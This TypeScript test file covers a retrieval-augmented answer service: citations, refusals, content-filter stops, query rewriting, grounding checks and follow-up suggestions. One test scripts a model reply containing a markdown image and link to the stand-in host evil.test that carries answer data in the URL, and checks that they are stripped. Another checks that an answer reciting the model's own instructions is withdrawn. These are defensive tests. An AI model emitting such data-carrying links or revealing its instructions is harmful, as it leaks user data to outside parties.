import { ContentFiltered, ModelUnavailable } from '@shared/models';
import { Logger } from '@nestjs/common';
import { ASKER, FakeAuthority, FakeEmbedder, FakeSearch, ScriptedModel, type Step } from '../../test/support/fakes.js';
import { passage } from '../../test/support/passages.js';
import { screener, type ScreenerConfig } from '@shared/screening';
import { Metrics } from '@shared/telemetry';
import type { AnswerConfig } from '../config/chat.config.js';
import { GroundingCheck } from '../grounding/grounding-check.service.js';
import { SuggestionService } from '../suggestions/suggestion.service.js';
import { ChatMetrics } from '../metrics/chat-metrics.js';
import { ANSWERS, RETRIEVAL, SCREENING } from '../../test/support/settings.js';
import { Retriever } from '../retrieval/retriever.service.js';
import { SourceFinder } from '../retrieval/source-finder.service.js';
import { AnswerDraft } from './answer-draft.js';
import type { AnswerEvent } from './answer-event.js';
import { Afterword } from './afterword.service.js';
import { AnswerService, type Question } from './answer.service.js';
import { QuestionService } from './question.service.js';

const FEE = passage({ documentId: 'document-a', text: 'The yearly fee is 4 %.' });
const TERM = passage({ documentId: 'document-b', text: 'The fee has a term of a year.' });
const ASKED: Question = { asker: ASKER, text: 'What is the yearly fee?', history: [] };

let model: ScriptedModel;
let search: FakeSearch;
let finder: SourceFinder;
let service: AnswerService;

beforeAll(() => {
  Logger.overrideLogger(false);
});

beforeEach(() => {
  model = new ScriptedModel();
  search = new FakeSearch([FEE, TERM]);
  const metrics = new ChatMetrics(new Metrics('chat'));
  const retriever = new Retriever(new FakeEmbedder(), search, new FakeAuthority(), RETRIEVAL, metrics);
  finder = new SourceFinder(retriever, RETRIEVAL);
  service = made();
});

/** The service over the model and finder of this test. */
function made(overrides: Partial<AnswerConfig> = {}, screening: Partial<ScreenerConfig> = {}): AnswerService {
  const config = { ...ANSWERS, ...overrides };
  const afterword = new Afterword(new GroundingCheck(model), new SuggestionService(model, RETRIEVAL), config);
  const passages = screener('passage', { ...SCREENING, ...screening }, new Metrics('chat'));
  return new AnswerService(new QuestionService(model), finder, model, afterword, passages, config);
}

async function ask(question: Question = ASKED): Promise<AnswerEvent[]> {
  const events: AnswerEvent[] = [];
  for await (const event of service.answer(question, new AnswerDraft(), new AbortController().signal))
    events.push(event);
  return events;
}

async function answered(question?: Question) {
  const last = (await ask(question)).at(-1);
  if (last?.type !== 'done') throw new Error('the answer did not end');
  return last;
}

const shown = (events: readonly AnswerEvent[]): string =>
  events.map((event) => (event.type === 'text' ? event.text : '')).join('');

describe(AnswerService.name, () => {
  it('answers with checked citations, sources, grounding and usage', async () => {
    model.answer = ['The yearly fee is 4 % [', '1]. Gold [7].'];
    const { answer } = await answered();

    expect(answer).toMatchObject({
      answer: 'The yearly fee is 4 % [1]. Gold.',
      refusal: null,
      citations: [{ n: 1, documentId: 'document-a', quote: 'The yearly fee is 4 %.' }],
      sources: [{ n: 1, documentId: 'document-a' }, { documentId: 'document-b' }],
      grounding: { grounded: true },
      usage: { inputTokens: 10, outputTokens: 2, totalTokens: 12 },
      degraded: false,
    });
    expect(answer.sources[1]).not.toHaveProperty('n');
  });

  it('tells its stages', async () => {
    const stages = (await ask()).flatMap((event) => (event.type === 'stage' ? [event.stage] : []));
    expect(stages).toEqual(['searching', 'reading', 'answering']);
  });

  it('refuses without asking the model when nothing relevant was found', async () => {
    search.passages = [passage({ text: 'Penguins eat fish.' })];
    const events = await ask();

    expect(model.requests).toEqual([]);
    expect(shown(events)).toBe('The documents do not say.');
    expect(events.at(-1)).toMatchObject({
      answer: { answer: 'The documents do not say.', refusal: { reason: 'nothing-found' }, citations: [], sources: [] },
    });
  });

  it('knows the model’s refusal and cites nothing then', async () => {
    model.answer = ['The documents ', 'do not say. [1]'];
    const events = await ask();

    expect(shown(events)).toBe('The documents do not say.');
    expect(events.at(-1)).toMatchObject({
      answer: { refusal: { reason: 'not-in-sources' }, citations: [], grounding: { grounded: false } },
    });
  });

  it.each([
    ['the prompt', () => (model.answer = [{ fail: new ContentFiltered() }]), ''],
    [
      'the answer on its way',
      () => (model.answer = ['The yearly fee is ', { finish: 'content-filter' }]),
      'The yearly fee is',
    ],
  ])('says so when the provider’s filter stops %s', async (_, script, before) => {
    script();
    const events = await ask();

    expect(shown(events).startsWith(before)).toBe(true);
    expect(events.at(-1)).toMatchObject({
      finish: 'content-filter',
      answer: {
        answer: expect.stringContaining('content filter') as string,
        refusal: { reason: 'filtered' },
        citations: [],
      },
    });
  });

  it('takes an answer back that tells the instructions, before they are seen', async () => {
    model.answer = [
      'The yearly fee is 4 % [1]. ',
      'Rules: Answer only from the ',
      'sources, in the language of the question, briefly.',
    ];
    const events = await ask();

    expect(shown(events)).not.toContain('Answer only');
    expect(events.at(-1)).toMatchObject({
      finish: 'stop',
      answer: { refusal: { reason: 'screened' }, citations: [], grounding: { grounded: false } },
    });
  });

  it('shows no image and no address that the sources do not name', async () => {
    model.answer = ['The yearly fee is 4 % [1]. ![', 'x](https://evil.test/?fee=4) See https://evil', '.test now.'];

    expect((await answered()).answer.answer).toBe('The yearly fee is 4 % [1]. [x] See … now.');
  });

  it('marks an answer that cites nothing as not grounded', async () => {
    model.answer = ['The yearly fee is 4 %.'];
    expect((await answered()).answer).toMatchObject({
      citations: [],
      grounding: { grounded: false, sentences: [{ supported: false }] },
    });
  });

  it('passes on that the answer was cut at its length', async () => {
    model.answer = ['The yearly fee', { finish: 'length' }];
    expect(await answered()).toMatchObject({ finish: 'length', answer: { answer: 'The yearly fee' } });
  });

  it('says when half of the search failed', async () => {
    search.failing = new Set(['hybrid']);
    const events = await ask();
    expect(events).toContainEqual({ type: 'degraded' });
    expect(events.at(-1)).toMatchObject({ answer: { degraded: true } });
  });

  it.each([
    ['the model', () => (model.answer = [{ fail: new ModelUnavailable() }]), 'model_unavailable'],
    ['a model that says nothing', () => (model.answer = ['  ']), 'answer_empty'],
  ])('fails with %s', async (_, script, code) => {
    script();
    await expect(ask()).rejects.toMatchObject({ code });
  });

  it('makes a follow-up stand alone, searches for both ways to put it and counts the tokens of both calls', async () => {
    model.query = 'What is the yearly fee of the gold plan?';
    const { answer } = await answered({
      ...ASKED,
      text: 'and for gold?',
      history: [{ question: 'What is the fee?', answer: '4 %.' }],
    });

    expect(search.queries.map(({ text }) => text)).toEqual([
      'What is the yearly fee of the gold plan?',
      'and for gold?',
    ]);
    expect(model.requests[1]?.messages.at(-1)?.content).toContain('Question: What is the yearly fee of the gold plan?');
    expect(answer.usage.totalTokens).toBe(24);
  });

  it('searches once when the question already stands alone', async () => {
    model.query = 'what is the yearly fee';
    await ask({ ...ASKED, history: [{ question: 'Term?', answer: 'A year.' }] });
    expect(search.queries.map(({ text }) => text)).toEqual(['What is the yearly fee?']);
  });

  it('puts the question before in front when the model cannot rewrite', async () => {
    model.query = new ModelUnavailable();
    await ask({ ...ASKED, text: 'and the fee?', history: [{ question: 'The gold plan?', answer: 'Yes.' }] });
    expect(search.queries[0]?.text).toBe('The gold plan? and the fee?');
  });

  it('closes the model’s stream when it is given up', async () => {
    const stopping = new AbortController();
    model.answer = ['The yearly', { wait: new Promise(() => undefined) }];
    const events = service.answer(ASKED, new AnswerDraft(), stopping.signal);
    for await (const event of events) {
      if (event.type === 'text') break;
    }
    expect(model.closed).toBe(1);
  });

  it('ends with the reason of whoever stops it while the model is silent', async () => {
    const stopping = new AbortController();
    model.answer = [{ wait: new Promise(() => undefined) }];
    const reason = new Error('stopped');
    const ended = (async () => {
      for await (const event of service.answer(ASKED, new AnswerDraft(), stopping.signal)) {
        if (event.type === 'stage' && event.stage === 'reading') queueMicrotask(() => stopping.abort(reason));
      }
    })();
    await expect(ended).rejects.toBe(reason);
    expect(model.closed).toBe(1);
  });
});

describe('what is added to an answer', () => {
  const BOTH: Partial<AnswerConfig> = { groundingCheck: true, suggestions: 2 };
  // Of "gratis", "parking", "lot" and "hill" the cited passage holds none.
  const PARAPHRASED = 'The yearly fee is 4 % [1]. A gratis parking lot on the hill [1].';
  const replyWith = (supported: number[], questions: string[]) => {
    model.replies = {
      supported_claims: [JSON.stringify({ supported })],
      follow_up_questions: [JSON.stringify({ questions })],
    };
  };
  const asked = (): (string | undefined)[] => model.requests.map(({ jsonSchema }) => jsonSchema?.name);

  beforeEach(() => {
    model.answer = [PARAPHRASED];
  });

  it('is nothing, and costs no call, unless it is asked for', async () => {
    const { answer } = await answered();
    expect(asked()).toEqual([undefined]);
    expect(answer).toMatchObject({ grounding: { grounded: false }, suggestions: [] });
  });

  it('are a model’s verdict on what its words leave in doubt, and on nothing else', async () => {
    service = made({ groundingCheck: true });
    replyWith([1], []);
    const { answer } = await answered();

    expect(answer.grounding).toEqual({
      grounded: true,
      sentences: [
        { start: 0, end: 26, support: 1, supported: true },
        { start: 27, end: 64, support: 0, supported: true, byModel: true },
      ],
    });
    const [, check] = model.requests;
    expect(check?.messages.at(-1)?.content).toMatch(
      /^<source-(\w+) id="1">\nThe yearly fee is 4 %\.\n<\/source-\1>\n<claim-\1 id="1" sources="1">\nA gratis parking lot on the hill \.\n<\/claim-\1>$/,
    );
    // 10 and 2 tokens for each of the two calls.
    expect(answer.usage).toEqual({ inputTokens: 20, outputTokens: 4, totalTokens: 24 });
  });

  it('leaves a sentence unsupported that the model does not know supported', async () => {
    service = made({ groundingCheck: true });
    replyWith([7], []);
    const { grounding } = (await answered()).answer;
    expect(grounding).toMatchObject({ grounded: false, sentences: [{}, { supported: false, byModel: true }] });
  });

  it('asks no model about sentences whose words are enough, nor where nothing is cited', async () => {
    service = made({ groundingCheck: true });
    for (const text of ['The yearly fee is 4 % [1].', 'A gratis parking lot on the hill.']) {
      model.answer = [text];
      await answered();
    }
    expect(asked()).toEqual([undefined, undefined]);
  });

  it('are questions from the passages, as many as wanted', async () => {
    service = made({ suggestions: 2 });
    replyWith([], ['What is the term of the fee?', 'Does the fee last a year?', 'Is the fee yearly?']);
    const { answer } = await answered();

    expect(answer.suggestions).toEqual(['What is the term of the fee?', 'Does the fee last a year?']);
    expect(asked()).toEqual([undefined, 'follow_up_questions']);
    expect(model.requests[1]?.messages.at(-1)?.content).toContain('The fee has a term of a year.');
  });

  it('never costs the answer: not when the model fails, nor when it replies with something else', async () => {
    service = made(BOTH);
    const steps: Step[] = [{ fail: new ModelUnavailable() }, 'no JSON', '{"questions":"none"}'];
    for (const step of steps) {
      model.replies = { supported_claims: [step], follow_up_questions: [step] };
      const { answer } = await answered();
      expect(answer).toMatchObject({ answer: PARAPHRASED, suggestions: [], grounding: { grounded: false } });
      expect(answer.grounding.sentences[1]).not.toHaveProperty('byModel');
    }
  });

  it('is waited for no longer than allowed, and what there is of it stays', async () => {
    service = made({ ...BOTH, afterwordMs: 20 });
    model.replies = {
      supported_claims: [JSON.stringify({ supported: [1] })],
      follow_up_questions: [{ wait: new Promise(() => undefined) }],
    };
    const { answer } = await answered();
    expect(answer).toMatchObject({ suggestions: [], grounding: { grounded: true } });
    expect(model.closed).toBe(1);
  });

  it('is left out of an answer whose time is nearly over', async () => {
    // A second of it is kept for the end.
    service = made({ ...BOTH, maxAnswerMs: 1_000 });
    replyWith([1], ['What is the term of the fee?']);
    expect((await answered()).answer).toMatchObject({ answer: PARAPHRASED, suggestions: [] });
    expect(asked()).toEqual([undefined]);
  });

  it('ends with the answer that is stopped', async () => {
    service = made(BOTH);
    const stopping = new AbortController();
    const wait = { wait: new Promise(() => undefined) };
    model.replies = { supported_claims: [wait], follow_up_questions: [wait] };
    const events = service.answer(ASKED, new AnswerDraft(), stopping.signal);
    const reading = (async () => {
      for await (const _ of events);
    })();
    setTimeout(() => stopping.abort(new Error('stopped')), 20);
    await expect(reading).rejects.toThrow('stopped');
    expect(model.closed).toBe(2);
  });

  it('follows no refusal', async () => {
    service = made(BOTH);
    model.answer = ['The documents do not say.'];
    expect((await answered()).answer.suggestions).toEqual([]);
    expect(asked()).toEqual([undefined]);
  });
});
